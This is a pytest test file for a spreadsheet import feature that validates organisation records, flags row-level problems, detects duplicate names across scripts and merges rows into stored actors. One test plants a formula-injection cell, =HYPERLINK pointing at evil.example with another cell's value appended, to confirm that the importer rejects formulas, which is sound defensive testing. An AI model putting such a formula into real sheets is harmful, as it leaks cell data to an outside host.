"""Checking a sheet against its mapping and the stored actors: every problem listed, duplicates found
across scripts, merges that keep what is stored."""

from __future__ import annotations

import pytest

from matchmaker.interchange.sheets import SheetMap, guess_map, plan_sheet_import, read_table
from matchmaker.records import ActorRecord
from matchmaker.taxonomy import SkillResolver, bundled_skills
from tests.sheet_files import HEADERS_EN, HEADERS_ET, ROWS, write_csv, write_xlsx

STORED = [
    ActorRecord("ua-company-007", "company", "Київстар", "UA", city="Київ", description="Mobile operator",
                sectors=("telecom",), offers={"egov:x-road": 1.0}),
    ActorRecord("ee-university-001", "university", "Tallinn University of Technology", "EE",
                native_name="Tallinna Tehnikaülikool", stage="mature", visibility="council"),
]  # fmt: skip


def plan(path, sheet_map=None, stored=STORED):
    table = read_table(path)
    return plan_sheet_import(table, sheet_map or guess_map(table), SkillResolver(bundled_skills()), stored)


def problems(result) -> list[str]:
    return [p.describe() for p in result.problems]


def test_a_clean_sheet_becomes_new_actors_with_codes_and_skills(tmp_path):
    result = plan(write_xlsx(tmp_path / "reg.xlsx", HEADERS_ET, ROWS))
    assert result.ok and result.created == ["ee-kratt-analytics-ou", "ua-mriia-didzhytal"]
    kratt, mriia = result.document.network.actors
    assert (kratt.kind, kratt.country, kratt.city, kratt.email) == (
        "startup",
        "EE",
        "Tartu",
        "tere@kratt.example",
    )
    assert mriia.kind == "startup" and mriia.country == "UA"
    labels = {bundled.id: bundled.label_en for bundled in bundled_skills()}
    assert sorted(labels[s] for s in kratt.offers) == ["Python (computer programming)", "machine learning"]
    assert [labels[s] for s in kratt.needs] == ["cloud computing"] or kratt.needs
    assert result.document.actor_sources["ee-kratt-analytics-ou"].endswith("reg.xlsx, row 2")


def test_every_problem_is_listed_with_row_column_and_field(tmp_path):
    rows = [
        ["Kratt OÜ", "rocket", "Narnia", "", "", "", "not-an-email", ""],
        ["", "Ettevõte", "Eesti", "", "", "", "", ""],
        ["Long OÜ", "Ettevõte", "Eesti", "x" * 500, "", "", "", ""],
        ["Fine OÜ", "Ettevõte", "Eesti", "", "", "", "", ""],
    ]
    result = plan(write_csv(tmp_path / "reg.csv", HEADERS_ET, rows))
    assert not result.ok and result.document is None
    assert problems(result) == [
        "row 2, column 'Tüüp', field kind: 'rocket' is not one of startup, company, public_body, investor, university, ngo, person",
        "row 2, column 'Riik', field country: 'Narnia' names no country we know; write it as Estonia, Eesti, Естонія or EE",
        "row 2, column 'E-post', field email: expected an e-mail address like name@example.org; got 'not-an-email'",
        "row 3, column 'Organisatsioon', field name: is empty; a new actor needs it",
        "row 4, column 'Linn', field city: is 500 characters long; at most 120 allowed",
    ]


def test_wrong_types_and_formula_cells_are_problems(tmp_path):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Organisation", "Type", "Country", "E-mail", "Size"])
    sheet.append(['=HYPERLINK("http://evil.example/?"&A3)', "startup", "EE", "a@b.ee", "11-50"])
    sheet.append(["Kratt OÜ", 42, "EE", 3.5, "#N/A"])
    sheet["E3"].data_type = "e"
    sheet.append(["=Text that is text", "startup", "EE", "", ""])
    sheet["A4"].data_type = "s"
    book.save(tmp_path / "reg.xlsx")
    result = plan(tmp_path / "reg.xlsx")
    assert problems(result) == [
        "row 2, column 'Organisation', field name: is a formula (=HYPERLINK(\"http://evil.example/?\"&A3)); "
        "the import takes typed values, never formulas: copy the column and paste it as values",
        "row 3, column 'Type', field kind: '42' is not one of startup, company, public_body, investor, university, ngo, person",
        "row 3, column 'Size', field size: holds the spreadsheet error #N/A",
        "row 3, column 'E-mail', field email: expected an e-mail address like name@example.org; got '3.5'",
    ]


def test_text_that_starts_like_a_formula_is_kept_as_text(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv", ["Organisation", "Type", "Country"], [["=Kratt+", "startup", "EE"]]
    )
    result = plan(path)
    assert result.ok and result.document.network.actors[0].name == "=Kratt+"


def test_the_mapping_itself_is_checked_first(tmp_path):
    path = write_csv(tmp_path / "reg.csv", ["Organisation", "Phone", "Town"], [["Kratt", "555", "Tartu"]])
    result = plan(path, SheetMap(columns={"Organisation": "city", "Town": "city", "Gone": "email"}))
    assert problems(result) == [
        "row 1, column 'Phone': is not in the map; map it to a field or to ignore",
        "column 'Gone', field email: the map names this column; the sheet has none",
        "column 'Town', field city: 'Organisation' holds this field already",
        "field name: no column is mapped to the name",
        "field kind: no column holds it and the map gives no default for it",
        "field country: no column holds it and the map gives no default for it",
    ]


def test_defaults_fill_what_the_sheet_leaves_out(tmp_path):
    path = write_csv(tmp_path / "reg.csv", ["Organisation"], [["Kratt OÜ"], ["Мрія"]])
    sheet_map = SheetMap(
        columns={"Organisation": "name"},
        defaults={"kind": "Idufirma", "country": "Eesti", "visibility": "council"},
    )
    result = plan(path, sheet_map, stored=[])
    assert result.ok
    assert {(a.kind, a.country, a.visibility) for a in result.document.network.actors} == {
        ("startup", "EE", "council")
    }


@pytest.mark.parametrize(
    ("spelling", "country", "target", "reason"),
    [
        ("Kyivstar", "Ukraine", "ua-company-007", "same name"),
        ("KYIVSTAR JSC", "UA", "ua-company-007", "same name"),
        ("Kievstar", "Україна", "ua-company-007", "similar name"),
        ("TalTech", "Estonia", "ee-university-001", "abbreviation"),
        ("Tallinna Tehnikaülikool", "Eesti", "ee-university-001", "same name"),
        ("Tallinna Tehnikaulikool", "EE", "ee-university-001", "same name"),
    ],
)
def test_likely_duplicates_are_found_across_scripts(tmp_path, spelling, country, target, reason):
    path = write_csv(
        tmp_path / "reg.csv", ["Organisation", "Type", "Country"], [[spelling, "company", country]]
    )
    result = plan(path)
    assert [(d.line, d.candidates[0].target, d.candidates[0].reason) for d in result.duplicates] == [
        (2, target, reason)
    ]
    assert not result.ok  # nobody decided yet: merge or create?
    assert f'"merge": {{"2": "{target}"}}' in problems(result)[0]


def test_another_country_is_not_a_duplicate(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv", ["Organisation", "Type", "Country"], [["Kyivstar", "company", "Estonia"]]
    )
    assert plan(path).duplicates == []


def test_a_merge_keeps_what_is_stored_and_adds_what_the_row_says(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv",
        ["Organisation", "Type", "Country", "City", "Sector", "We offer", "Website"],
        [["Kyivstar", "company", "Ukraine", "", "mobile services", "cloud computing", "https://new.example"]],
    )
    sheet_map = guess_map(read_table(path))
    sheet_map.merge = {2: "ua-company-007"}
    result = plan(path, sheet_map)
    assert result.ok and result.merged == {2: "ua-company-007"} and result.created == []
    (merged,) = result.document.network.actors
    assert merged.id == "ua-company-007" and merged.name == "Київстар"  # the stored name stays
    assert (
        merged.city == "Київ" and merged.description == "Mobile operator"
    )  # empty cell, absent column: kept
    assert merged.website == "https://new.example"
    assert merged.sectors == ("telecom", "mobile services")
    assert "egov:x-road" in merged.offers and len(merged.offers) == 2


def test_rows_within_the_sheet_merge_into_one_actor(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv",
        ["Organisation", "Type", "Country", "We need"],
        [
            ["Мрія Діджитал", "startup", "UA", "machine learning"],
            ["Mriia Didzhytal", "startup", "UA", "cloud computing"],
        ],
    )
    result = plan(path)
    assert [(d.line, d.candidates[0].target) for d in result.duplicates] == [(3, "row 2")]
    sheet_map = guess_map(read_table(path))
    sheet_map.merge = {3: "row 2"}
    result = plan(path, sheet_map)
    assert result.ok and result.created == ["ua-mriia-didzhytal"]
    (actor,) = result.document.network.actors
    assert len(actor.needs) == 2


def test_create_new_despite_a_likely_duplicate(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv", ["Organisation", "Type", "Country"], [["Kyivstar", "company", "UA"]]
    )
    sheet_map = guess_map(read_table(path))
    sheet_map.merge = {2: "new"}
    result = plan(path, sheet_map)
    assert result.ok and result.created == ["ua-kyivstar"]


def test_a_merge_into_nothing_is_a_problem(tmp_path):
    path = write_csv(tmp_path / "reg.csv", ["Organisation", "Type", "Country"], [["Kratt", "startup", "EE"]])
    sheet_map = guess_map(read_table(path))
    sheet_map.merge = {2: "ee-nobody", 9: "new"}
    assert problems(plan(path, sheet_map)) == [
        "row 9: the map's merge names this row; the sheet has no such row"
    ]
    sheet_map.merge = {2: "ee-nobody"}
    assert problems(plan(path, sheet_map)) == ["row 2: merges into 'ee-nobody', which is no stored actor"]


def test_english_headers_with_generated_ids_that_never_collide(tmp_path):
    rows = [["Kratt", "startup", "EE", "", "", "", "", ""], ["Kratt", "startup", "EE", "", "", "", "", ""]]
    path = write_csv(tmp_path / "reg.csv", HEADERS_EN, rows)
    sheet_map = guess_map(read_table(path))
    sheet_map.merge = {3: "new"}
    stored = [ActorRecord("ee-kratt", "startup", "Kratt Old", "FI")]
    result = plan(path, sheet_map, stored=stored)
    assert result.created == ["ee-kratt-2", "ee-kratt-3"]


def test_numbered_branches_are_not_duplicates_of_each_other(tmp_path):
    path = write_csv(
        tmp_path / "reg.csv",
        ["Organisation", "Type", "Country"],
        [["Kratt Lab 1", "startup", "EE"], ["Kratt Lab 2", "startup", "EE"], ["Krat Lab 1", "startup", "EE"]],
    )
    assert [(d.line, d.candidates[0].target) for d in plan(path, stored=[]).duplicates] == [(4, "row 2")]
